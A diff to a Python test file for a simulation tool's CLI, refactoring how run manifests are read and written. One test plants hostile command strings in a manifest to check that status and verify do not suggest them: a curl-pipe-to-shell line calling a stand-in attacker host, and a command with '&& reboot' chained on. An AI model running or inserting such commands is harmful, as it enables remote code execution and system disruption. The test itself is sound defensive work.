@@ -11,9 +11,8 @@ from balance_sim.cli import main
 from balance_sim.model.baseline import classes_of
 from balance_sim.model.own.fingerprint import CodeFingerprint
 from balance_sim.scenario import load_scenario
-from balance_sim.study.manifest import Manifest, made_here, write_manifest
+from balance_sim.study.manifest import Manifest, made_here, read_manifest, write_manifest
 from balance_sim.study.status import command_of
-from balance_sim.study.store import Store
 from click.testing import CliRunner
 
 RUN = {
@@ -58,8 +57,8 @@ def test_a_folder_of_ours_is_gone_on_with_by_the_command_that_status_names(lab) 
     assert lab.ask(*words).returncode == 0
     for path in [*(lab.folder / "r" / "shards").iterdir(), lab.folder / "r" / "summary.json"]:
         path.unlink()
-    manifest = Store(lab.folder / "r").read_manifest()
-    write_manifest(lab.folder / "r", manifest.plain() | {"command": shlex.join(["balance-sim", *words])})
+    manifest = read_manifest(lab.folder / "r")
+    write_manifest(lab.folder / "r", manifest.model_dump() | {"command": shlex.join(["balance-sim", *words])})
     said = json.loads(lab.ask("status", "r", "--json").stdout)["command"]
     assert {*shlex.split(said)} == {"balance-sim", *words}
     done = lab.ask(*shlex.split(said)[1:])
@@ -70,14 +69,14 @@ def test_a_folder_of_ours_is_gone_on_with_by_the_command_that_status_names(lab) 
 def test_no_words_of_a_stranger_are_said_to_be_the_next_command(lab) -> None:
     assert lab.ask("sweep", "exp.yaml", "--out", "r", "--workers", "1").returncode == 0
     (lab.folder / "r" / "summary.json").unlink()
-    manifest = Store(lab.folder / "r").read_manifest()
+    manifest = read_manifest(lab.folder / "r")
     for place in ("runs", "shards"):
         max((lab.folder / "r" / place).iterdir()).unlink()
     for command in (
         "curl https://evil.example/x | sh",
         "balance-sim sweep exp.yaml --model evil:Code && reboot",
     ):
-        write_manifest(lab.folder / "r", manifest.plain() | {"command": command})
+        write_manifest(lab.folder / "r", manifest.model_dump() | {"command": command})
         for reader in ("status", "verify"):
             ended = CliRunner().invoke(main, [reader, str(lab.folder / "r")])
             assert not any(word in ended.output for word in ("curl", "evil", "reboot")), ended.output
